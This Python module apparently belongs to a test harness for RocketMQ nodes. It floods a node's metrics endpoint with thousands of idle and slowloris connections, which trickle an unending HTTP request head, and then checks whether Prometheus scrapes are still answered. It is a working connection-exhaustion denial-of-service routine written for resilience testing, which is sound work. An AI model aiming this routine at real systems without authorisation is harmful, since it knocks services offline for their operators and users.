"""The attacker on a node's metrics endpoint (``metricsPort``, plain HTTP): a crowd of idle
and slowloris connections while Prometheus scrapes (``crowd_the_metrics``,
defect 5), and one scrape as Prometheus makes it (``scrape_status``).

Why a module of its own: the endpoint speaks HTTP, not RocketMQ's remoting, and has its own
budget of connections; what must hold is that every scrape is answered however many peers
wait on it.
"""

from __future__ import annotations

import trio

from ._common import (
    AttackOutcome,
    Tally,
    close_quietly,
    connect_raw,
    node_has_closed,
    send_until_closed,
)

__all__ = ["crowd_the_metrics", "scrape_status"]

#: the head of a scrape; a slowloris client trickles it and never ends it
_SCRAPE_HEAD = b"GET /metrics HTTP/1.1\r\nHost: scrape\r\nAccept: */*\r\n\r\n"
_TRICKLED_HEAD = b"GET /metrics HTTP/1.1\r\nHost: slowloris\r\nX-Padding: " + b"p" * 4096


async def scrape_status(address: str, *, timeout: float = 5.0) -> int | None:
    """The HTTP status of one ``GET /metrics`` of ``address`` (its whole reply read), or None
    when the node closes without an answer or ``timeout`` passes."""
    data = bytearray()
    with trio.move_on_after(timeout):
        try:
            stream = await connect_raw(address)
        except OSError:
            return None
        try:
            await stream.send_all(_SCRAPE_HEAD)
            while len(data) < 16 * 1024 * 1024 and (chunk := await stream.receive_some(65536)):
                data += chunk
        except (trio.BrokenResourceError, trio.ClosedResourceError):
            pass
        finally:
            await close_quietly(stream)
    status_line = bytes(data).split(b"\r\n", 1)[0].split(b" ")
    if len(status_line) < 2 or not status_line[1].isdigit():
        return None
    return int(status_line[1])


async def crowd_the_metrics(address: str, *, idle: int = 3000, slowloris: int = 300,
                            scrapes: int = 3, interval: float = 0.5, seconds: float = 20.0,
                            attack: str = "metrics crowd") -> AttackOutcome:
    """Against a metrics endpoint (``metricsPort``): ``idle`` connections that send nothing and
    ``slowloris`` that trickle a request head one byte every ``interval`` seconds, all held
    open (as many as half of ``seconds`` allows); then ``scrapes`` scrapes, one after another,
    as Prometheus makes them, each given 5 s at least (a short attack may end late when
    scrapes are slow). Every scrape must be answered (``answers``: HTTP statuses, ``none`` for
    a scrape closed or timed out unanswered); ``closed_by_node`` counts the crowd's
    connections the node let go."""
    tally = Tally(attack, address)
    deadline = trio.current_time() + seconds
    streams: list[trio.SocketStream] = []

    async def trickle(stream: trio.SocketStream) -> None:
        for i in range(len(_TRICKLED_HEAD)):  # bounded: the head never ends, the run does
            if not await send_until_closed(stream, _TRICKLED_HEAD[i:i + 1]):
                return
            tally.bytes_sent += 1
            await trio.sleep(interval)

    try:
        async with trio.open_nursery() as crowd:
            # the crowd gathers for half the time at most; the scrapes are made whatever
            # the time left, each given 5 s at least (Prometheus gives 10 by default): the
            # node may still be accepting the crowd from its backlog
            with trio.move_on_at(deadline - seconds / 2):
                for n in range(idle + slowloris):
                    stream = await tally.connect(address)
                    if stream is None:
                        continue
                    streams.append(stream)
                    if n >= idle:
                        crowd.start_soon(trickle, stream)
            for _ in range(scrapes):
                status = await scrape_status(
                    address, timeout=max(5.0, min(10.0, deadline - trio.current_time())))
                tally.answers["none" if status is None else str(status)] += 1
            crowd.cancel_scope.cancel()
        tally.closed_by_node = sum(node_has_closed(stream) for stream in streams)
    finally:
        for stream in streams:
            await close_quietly(stream)
    return tally.outcome()
